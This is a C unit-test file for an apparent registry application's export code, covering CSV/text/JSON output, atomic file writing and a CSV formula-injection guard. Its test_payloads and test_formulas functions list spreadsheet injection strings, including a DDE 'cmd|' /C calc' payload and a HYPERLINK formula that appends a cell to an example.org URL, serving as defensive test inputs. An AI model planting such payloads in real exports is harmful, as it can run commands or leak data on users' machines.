/* Copyright 2026 The Hupan authors
 * SPDX-License-Identifier: GPL-3.0-or-later */

#include <fcntl.h>
#include <glib/gstdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "core/kinds/hupan-kinds.h"
#include "exchange/hupan-csv-write.h"
#include "exchange/hupan-export.h"
#include "exchange/hupan-file.h"
#include "exchange/hupan-import.h"
#include "exchange/hupan-sample.h"
#include "fixtures/test-nasty.h"
#include "fixtures/test-registry.h"
#include "fixtures/test-shared.h"
#include "reader/hupan-csv.h"

static gint64
add_note (HupanBatch      *batch,
          const HupanKind *kind,
          const char      *const *values)
{
  HupanRecord *record = hupan_record_new_draft (kind);
  gint64 id;

  for (; values[0] != NULL; values += 2)
    {
      HupanRecord *next = hupan_record_with (record, values[0], values[1]);

      g_object_unref (record);
      record = next;
    }
  id = hupan_batch_create (batch, record, NULL);
  g_object_unref (record);
  return id;
}

static void
commit (HupanRegistry *registry,
        HupanBatch    *batch)
{
  g_autoptr (GError) error = NULL;

  hupan_registry_commit (registry, batch, NULL, &error);
  g_assert_no_error (error);
}

static char *
export (HupanRegistry     *registry,
        const HupanKind   *kind,
        const char        *columns,
        HupanExportFormat  format)
{
  g_auto (GStrv) names = g_strsplit (columns, " ", -1);
  g_autoptr (GPtrArray) list = g_ptr_array_new ();
  g_autoptr (GError) error = NULL;
  char *text;

  for (char **name = names; *name != NULL; name++)
    g_ptr_array_add (list, (gpointer) hupan_kind_get_column (kind, *name));
  g_ptr_array_add (list, NULL);
  text = hupan_export_dup_text (registry, kind, (const HupanColumn *const *) list->pdata, NULL, HUPAN_EXPORT_ALL, NULL, format, NULL, &error);
  g_assert_no_error (error);
  return text;
}

static void
test_formats (void)
{
  static const char *const zju[] = {
    "name", "Zhejiang University", "native_name", "浙江大学", "country", "CN", "partner_status", "partner", "established", "1897",
    "domains", "zju.edu.cn\nzjuem.com", "owner", "=cmd", NULL,
  };
  static const char *const other[] = { "name", "A \"quoted\", name", "notes", "x", NULL };
  g_autoptr (TestPlace) place = test_place_new ();
  HupanRegistry *registry = test_registry_create (place);
  g_autoptr (HupanBatch) batch = hupan_batch_new ("x", NULL, HUPAN_BATCH_NONE);
  gint64 first = add_note (batch, &hupan_university_kind, zju);
  gint64 second = add_note (batch, &hupan_university_kind, other);
  const char *columns = "name country partner_status domains established owner candidates";
  g_autofree char *csv = NULL;
  g_autofree char *text = NULL;
  g_autofree char *json = NULL;
  g_autofree char *expected = NULL;

  commit (registry, batch);
  csv = export (registry, &hupan_university_kind, columns, HUPAN_EXPORT_CSV);
  g_assert_cmpstr (csv, ==,
                   "\xEF\xBB\xBFName,Country or region,Partnership,Domains,Established,Responsible,Candidates\r\n"
                   "Zhejiang University,China,Partner,zju.edu.cn; zjuem.com,1897,'=cmd,0\r\n"
                   "\"A \"\"quoted\"\", name\",,Prospect,,,,0\r\n");
  text = export (registry, &hupan_university_kind, columns, HUPAN_EXPORT_TEXT);
  g_assert_cmpstr (text, ==,
                   "Zhejiang University\tChina\tPartner\tzju.edu.cn; zjuem.com\t1897\t'=cmd\t0\n"
                   "A \"quoted\", name\t\tProspect\t\t\t\t0\n");
  json = export (registry, &hupan_university_kind, columns, HUPAN_EXPORT_JSON);
  expected = g_strdup_printf (
    "[\n{\"id\":\"%" G_GINT64_FORMAT "\",\"name\":\"Zhejiang University\",\"country\":\"CN\",\"partner_status\":\"partner\","
    "\"domains\":[\"zju.edu.cn\",\"zjuem.com\"],\"established\":1897,\"owner\":\"=cmd\",\"candidates\":0},\n"
    "{\"id\":\"%" G_GINT64_FORMAT "\",\"name\":\"A \\\"quoted\\\", name\",\"country\":null,\"partner_status\":\"prospect\","
    "\"domains\":[],\"established\":null,\"owner\":null,\"candidates\":0}\n]\n",
    first, second);
  g_assert_cmpstr (json, ==, expected);

  test_registry_close (registry);
}

static void
test_selection (void)
{
  static const char *const one[] = { "name", "one", NULL };
  static const char *const two[] = { "name", "two", NULL };
  static const char *const three[] = { "name", "three", NULL };
  g_autoptr (TestPlace) place = test_place_new ();
  HupanRegistry *registry = test_registry_create (place);
  g_autoptr (HupanBatch) batch = hupan_batch_new ("x", NULL, HUPAN_BATCH_NONE);
  const HupanColumn *const columns[] = { hupan_kind_get_column (&hupan_tag_kind, "name"), NULL };
  gint64 ids[2];
  g_autofree char *some = NULL;
  g_autofree char *none = NULL;
  g_autofree char *nothing_chosen = NULL;

  ids[1] = add_note (batch, &hupan_tag_kind, one);
  add_note (batch, &hupan_tag_kind, two);
  ids[0] = add_note (batch, &hupan_tag_kind, three);
  commit (registry, batch);

  some = hupan_export_dup_text (registry, &hupan_tag_kind, columns, ids, 2, NULL, HUPAN_EXPORT_TEXT, NULL, NULL);
  g_assert_cmpstr (some, ==, "three\none\n");
  none = hupan_export_dup_text (registry, &hupan_tag_kind, columns, ids, 0, NULL, HUPAN_EXPORT_JSON, NULL, NULL);
  g_assert_cmpstr (none, ==, "[]\n");

  /* An empty list of ids may be NULL, and is not all of them. */
  nothing_chosen = hupan_export_dup_text (registry, &hupan_tag_kind, columns, NULL, 0, NULL, HUPAN_EXPORT_CSV, NULL, NULL);
  g_assert_cmpstr (nothing_chosen, ==, "\xEF\xBB\xBFName\r\n");

  test_registry_close (registry);
}

/* F9: whole or not there, and for nobody else to read. */
static void
test_file (void)
{
  static const char *const one[] = { "name", "one", NULL };
  g_autoptr (TestPlace) place = test_place_new ();
  HupanRegistry *registry = test_registry_create (place);
  g_autoptr (HupanBatch) batch = hupan_batch_new ("x", NULL, HUPAN_BATCH_NONE);
  g_autofree char *path = g_build_filename (place->folder, "tags.csv", NULL);
  g_autofree char *lost = g_build_filename (place->folder, "no-such-folder", "tags.csv", NULL);
  g_autofree char *text = NULL;
  g_autoptr (HupanFile) abandoned = NULL;
  g_autoptr (GPtrArray) history = NULL;
  g_autoptr (GError) error = NULL;
  guint n_exports = 0;
  GStatBuf st;
  gsize length;

  add_note (batch, &hupan_tag_kind, one);
  commit (registry, batch);
  g_file_set_contents (path, "before", -1, NULL);
  hupan_export_to_file (registry, &hupan_tag_kind, NULL, NULL, HUPAN_EXPORT_ALL, NULL, HUPAN_EXPORT_CSV, path, NULL, &error);
  g_assert_no_error (error);
  text = test_read (path, &length);
  g_assert_cmpstr (text, ==, "\xEF\xBB\xBFName,Candidates\r\none,0\r\n");
  g_assert_cmpint (g_stat (path, &st), ==, 0);
  g_assert_cmpint (st.st_mode & 0777, ==, 0600);

  g_assert_false (hupan_export_to_file (registry, &hupan_tag_kind, NULL, NULL, HUPAN_EXPORT_ALL, NULL, HUPAN_EXPORT_CSV, lost, NULL, &error));
  g_assert_error (error, G_FILE_ERROR, G_FILE_ERROR_NOENT);
  g_clear_error (&error);

  /* Given up half-way, the old file stays and nothing else. */
  abandoned = hupan_file_begin (path, &error);
  g_assert_no_error (error);
  g_output_stream_write_all (hupan_file_get_stream (abandoned), "half", 4, NULL, NULL, NULL);
  g_clear_pointer (&abandoned, hupan_file_free);
  g_clear_pointer (&text, g_free);
  text = test_read (path, &length);
  g_assert_cmpstr (text, ==, "\xEF\xBB\xBFName,Candidates\r\none,0\r\n");
  g_remove (path);

  /* One of the two was finished, and that is noted. */
  history = hupan_registry_history (registry, NULL, 0, 0, 0, &error);
  g_assert_no_error (error);
  for (guint i = 0; i < history->len; i++)
    n_exports += ((HupanHistoryEntry *) history->pdata[i])->note != NULL;
  g_assert_cmpuint (n_exports, ==, 1);
  g_assert_cmpstr (((HupanHistoryEntry *) history->pdata[0])->label, ==, "Export of Tags: 1 row to “tags.csv”");
  test_registry_close (registry);
}

/* What is no regular file does not lose its place to one, and what cannot be renamed is written where it is. */
static void
test_file_in_place (void)
{
  g_autofree char *pipe = g_build_filename (g_get_tmp_dir (), "pipe", NULL);
  g_autofree char *folder = g_build_filename (g_get_tmp_dir (), "folder", NULL);
  g_autoptr (GError) error = NULL;
  g_autofd int reader = -1;
  char bytes[16] = "";
  GStatBuf st;

  g_assert_cmpint (mkfifo (pipe, 0600), ==, 0);
  reader = open (pipe, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  hupan_file_write (pipe, "a,b\n", 4, &error);
  g_assert_no_error (error);
  g_assert_cmpint (read (reader, bytes, sizeof bytes), ==, 4);
  g_assert_cmpstr (bytes, ==, "a,b\n");
  g_assert_cmpint (g_stat (pipe, &st), ==, 0);
  g_assert_true (S_ISFIFO (st.st_mode));

  g_assert_false (hupan_file_write ("/dev/full", "a", 1, &error));
  g_assert_error (error, G_FILE_ERROR, G_FILE_ERROR_NOSPC);
  g_clear_error (&error);

  g_assert_cmpint (g_mkdir (folder, 0700), ==, 0);
  g_assert_false (hupan_file_write (folder, "a", 1, &error));
  g_assert_error (error, G_FILE_ERROR, G_FILE_ERROR_ISDIR);
}

/* What stands in the "name" and "notes" of all tags. */
static gboolean
collect_cb (gint64             id,
            const char *const *values,
            gpointer           data)
{
  g_hash_table_insert (data, g_strdup (values[0]), g_strdup (values[1]));
  return TRUE;
}

static GHashTable *
collect (HupanRegistry *registry)
{
  static const char *const paths[] = { "name", "notes", NULL };
  GHashTable *found = g_hash_table_new_full (g_str_hash, g_str_equal, g_free, g_free);
  g_autoptr (GError) error = NULL;

  hupan_registry_scan (registry, &hupan_tag_kind, paths, NULL, 0, NULL, collect_cb, found, NULL, &error);
  g_assert_no_error (error);
  return found;
}

static void
assert_same (GHashTable *one,
             GHashTable *other)
{
  GHashTableIter iter;
  gpointer key, value;

  g_assert_cmpuint (g_hash_table_size (one), ==, g_hash_table_size (other));
  g_hash_table_iter_init (&iter, one);
  while (g_hash_table_iter_next (&iter, &key, &value))
    g_assert_cmpstr (value, ==, g_hash_table_lookup (other, key));
}

static gboolean
collect_id_cb (gint64             id,
               const char *const *values,
               gpointer           data)
{
  g_hash_table_insert (data, g_strdup (values[0]), g_memdup2 (&id, sizeof id));
  return TRUE;
}

/* The export of the tags "tag 0", "tag 1", … in this order: that of another registry, where ids differ. */
static char *
dup_in_order_of (HupanRegistry            *registry,
                 char                    **strings,
                 const HupanColumn *const *columns)
{
  static const char *const paths[] = { "name", NULL };
  g_autoptr (GHashTable) found = g_hash_table_new_full (g_str_hash, g_str_equal, g_free, g_free);
  g_autoptr (GArray) ids = g_array_new (FALSE, FALSE, sizeof (gint64));
  g_autoptr (GError) error = NULL;
  char *text;

  hupan_registry_scan (registry, &hupan_tag_kind, paths, NULL, 0, NULL, collect_id_cb, found, NULL, &error);
  g_assert_no_error (error);
  for (guint i = 0; strings[i] != NULL; i++)
    {
      g_autofree char *name = g_strdup_printf ("tag %u", i);

      g_array_append_val (ids, *(gint64 *) g_hash_table_lookup (found, name));
    }

  text = hupan_export_dup_text (registry, &hupan_tag_kind, columns, (const gint64 *) ids->data, ids->len, NULL,
                                HUPAN_EXPORT_CSV, NULL, &error);
  g_assert_no_error (error);
  return text;
}

/* Each string as the notes of a tag, from one registry to another through a CSV file. */
static void
assert_round_trip (char **strings)
{
  static const HupanColumn notes = { "notes", NULL, "notes", HUPAN_COLUMN_NONE, 10 };
  const HupanColumn *const columns[] = { hupan_kind_get_column (&hupan_tag_kind, "name"), &notes, NULL };
  g_autoptr (TestPlace) from_place = test_place_new ();
  g_autoptr (TestPlace) to_place = test_place_new ();
  HupanRegistry *from = test_registry_create (from_place);
  HupanRegistry *to = test_registry_create (to_place);
  g_autoptr (HupanBatch) batch = hupan_batch_new ("x", NULL, HUPAN_BATCH_NONE);
  g_autoptr (HupanBatch) imported = NULL;
  g_autofree char *path = g_build_filename (g_get_tmp_dir (), "round-trip.csv", NULL);
  g_autoptr (HupanFile) file = NULL;
  g_autoptr (HupanImport) import = NULL;
  g_autoptr (GHashTable) before = NULL;
  g_autoptr (GHashTable) after = NULL;
  g_autofree char *text = NULL;
  g_autofree char *again = NULL;
  g_autoptr (GError) error = NULL;

  for (guint i = 0; strings[i] != NULL; i++)
    {
      g_autofree char *name = g_strdup_printf ("tag %u", i);
      g_autofree char *value = NULL;

      g_assert_true (hupan_field_parse (hupan_kind_get_field (&hupan_tag_kind, "notes"), strings[i], &value, NULL));
      const char *const values[] = { "name", name, "notes", value, NULL };
      add_note (batch, &hupan_tag_kind, values);
    }
  commit (from, batch);

  file = hupan_file_begin (path, &error);
  hupan_export_write (from, &hupan_tag_kind, columns, NULL, HUPAN_EXPORT_ALL, NULL, HUPAN_EXPORT_CSV, hupan_file_get_stream (file), NULL, &error);
  g_assert_no_error (error);
  hupan_file_finish (file, &error);
  g_assert_no_error (error);

  import = hupan_import_read (path, &hupan_tag_kind, NULL, NULL, &error);
  g_assert_no_error (error);
  hupan_import_compare (import, to, NULL, &error);
  g_assert_no_error (error);
  imported = hupan_import_dup_batch (import, FALSE, &error);
  g_assert_no_error (error);
  commit (to, imported);

  before = collect (from);
  after = collect (to);
  assert_same (before, after);

  /* And out again, byte for byte. */
  text = dup_in_order_of (from, strings, columns);
  again = dup_in_order_of (to, strings, columns);
  g_assert_cmpstr (again, ==, text);
  g_remove (path);
  test_registry_close (from);
  test_registry_close (to);
}

/* F8: every way that a cell can begin to be a formula, in four forms each, as they stand in a file and as they come back. */
static void
test_payloads (void)
{
  static const char *const begins[] = { "=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠" };
  static const char *const ends[] = { "", "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"https://example.org/?\"&A1,\"x, y\")" };

  for (gsize i = 0; i < G_N_ELEMENTS (begins) * G_N_ELEMENTS (ends); i++)
    {
      g_autofree char *cell = g_strconcat (begins[i / G_N_ELEMENTS (ends)], ends[i % G_N_ELEMENTS (ends)], NULL);
      g_autofree char *guarded = hupan_csv_guard (cell);
      const char *const cells[] = { "first", guarded, "last" };
      g_autoptr (GString) row = g_string_new (NULL);
      g_autoptr (HupanCsv) csv = NULL;
      g_autoptr (GError) error = NULL;

      g_assert_cmpint (guarded[0], ==, '\'');
      hupan_csv_append_row (row, cells, G_N_ELEMENTS (cells), ",");
      csv = hupan_csv_parse (g_strdup (row->str), row->len, ",", hupan_import_limits_default (), NULL, &error);
      g_assert_no_error (error);
      g_assert_cmpuint (hupan_csv_get_n_rows (csv), ==, 1);
      g_assert_cmpuint (hupan_csv_get_n_cells (csv, 0), ==, 3);
      g_assert_cmpstr (hupan_csv_unguard (hupan_csv_get_cell (csv, 0, 1)), ==, cell);
    }
}

static void
test_formulas (void)
{
  static const char *const payloads[] = {
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "＝1+1", "＋1", "－1", "＠A1", "'=1", "''=1", "'quoted", "'", "-",
    "=HYPERLINK(\"http://example.org\",\"x\")", "+86 571 8888 8888", "a\n=1+1", "=1\n2", "\"=1\"", "=\"1\"", ";=1", ",=1", "|=1",
    NULL,
  };

  assert_round_trip ((char **) payloads);
}

static void
test_nasty (void)
{
  g_autoptr (GPtrArray) strings = test_nasty_strings ();

  assert_round_trip ((char **) strings->pdata);
}

/* Every list of the sample, exported in either language, comes back as what is there already. */
static void
test_sample (void)
{
  static const char *const kinds[] = { "universities", "topics", "candidates", "fellows", "sites", "calls", "tags", "fields", "host-units" };
  static const char *const languages[] = { "en", "zh-CN" };
  g_autoptr (TestPlace) place = test_place_new ();
  HupanRegistry *registry = test_registry_create (place);
  g_autoptr (HupanBatch) sample = hupan_sample_dup_batch ();
  g_autofree char *path = g_build_filename (place->folder, "list.csv", NULL);

  commit (registry, sample);
  for (gsize i = 0; i < G_N_ELEMENTS (kinds) * G_N_ELEMENTS (languages); i++)
    {
      const HupanKind *kind = hupan_kind_get (kinds[i / G_N_ELEMENTS (languages)]);
      g_autoptr (HupanImport) import = NULL;
      g_autoptr (GError) error = NULL;

      hupan_export_to_file (registry, kind, NULL, NULL, HUPAN_EXPORT_ALL, languages[i % G_N_ELEMENTS (languages)], HUPAN_EXPORT_CSV, path, NULL, &error);
      g_assert_no_error (error);
      import = hupan_import_read (path, kind, NULL, NULL, &error);
      g_assert_no_error (error);
      hupan_import_compare (import, registry, NULL, &error);
      g_assert_no_error (error);
      for (guint row = 0; row < hupan_import_get_n_rows (import); row++)
        {
          if (hupan_import_get_row_state (import, row) != HUPAN_ROW_UNCHANGED)
            g_error ("%s, line %u: %s", kind->plural, hupan_import_get_row_line (import, row),
                     hupan_import_get_row_message (import, row));
        }
    }
  g_remove (path);
  test_registry_close (registry);
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/exchange/export/formats", test_formats);
  g_test_add_func ("/exchange/export/selection", test_selection);
  g_test_add_func ("/exchange/export/file", test_file);
  g_test_add_func ("/exchange/export/file-in-place", test_file_in_place);
  g_test_add_func ("/exchange/export/payloads", test_payloads);
  g_test_add_func ("/exchange/export/formulas", test_formulas);
  g_test_add_func ("/exchange/export/nasty-strings", test_nasty);
  g_test_add_func ("/exchange/export/sample", test_sample);
  return g_test_run ();
}
